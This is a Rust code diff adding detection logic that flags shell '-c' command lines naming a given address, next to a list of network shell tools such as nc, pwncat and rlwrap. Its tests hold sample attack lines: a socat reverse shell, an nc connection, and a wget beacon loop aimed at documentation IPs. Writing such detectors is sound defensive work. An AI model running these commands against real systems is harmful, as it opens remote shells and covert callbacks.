@@ -7,6 +7,8 @@ use alloc::vec::Vec;
 
 use serde::{Deserialize, Serialize};
 
+use crate::naming::names;
+
 const PROGRAMS: &[&str] = &[
     "telnet",
     "nc",
@@ -18,6 +20,8 @@ const PROGRAMS: &[&str] = &[
     "pwncat",
     "rlwrap",
 ];
+
+const SHELLS: &[&str] = &["sh", "bash", "ash", "dash", "zsh", "ksh"];
 
 /// What the client was told to do.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
@@ -89,6 +93,15 @@ impl RawClient {
     }
 }
 
+/// Whether a command is a line for a shell (`sh -c '…'`) that names this address: nobody had to
+/// build an image to write it.
+pub(crate) fn is_in_a_shells_line(command: &[String], address: &str) -> bool {
+    let is_shell = |word: &String| SHELLS.contains(&word.rsplit('/').next().unwrap_or_default());
+    let Some(place) = command.iter().position(is_shell) else { return false };
+    let mut words = command.iter().skip(place + 1);
+    words.any(|word| is_flag(word, 'c')) && words.any(|word| names(word, address))
+}
+
 fn is_dev(word: &str) -> bool {
     word.contains("/dev/tcp/") || word.contains("/dev/udp/")
 }
@@ -153,6 +166,20 @@ mod tests {
         for line in ["nc 198.51.100.10 4444", "socat EXEC:sh TCP:198.51.100.10:4444"] {
             assert!(!find(line).unwrap().listens_at(4444), "{line}");
         }
+    }
+
+    #[test]
+    fn a_shells_line_names_an_address_behind_its_flag() {
+        let is_it = |line: &[&str]| {
+            let line: Vec<String> = line.iter().copied().map(String::from).collect();
+            is_in_a_shells_line(&line, "198.51.100.7")
+        };
+        let call = "while :; do wget -qO- http://198.51.100.7/a.css; sleep 60; done";
+        assert!(is_it(&["sh", "-c", call]) && is_it(&["/bin/bash", "-ec", call]));
+        assert!(is_it(&["busybox", "sh", "-c", call]) && is_it(&["tini", "--", "sh", "-c", call]));
+        assert!(!is_it(&["sh", "-c", "curl http://198.51.100.70/"]), "another one");
+        assert!(!is_it(&["sh", "/srv/run.sh", "198.51.100.7"]), "a script with an argument");
+        assert!(!is_it(&["/srv/agent", "-c", "198.51.100.7"]), "an agent's own flag");
     }
 
     #[test]
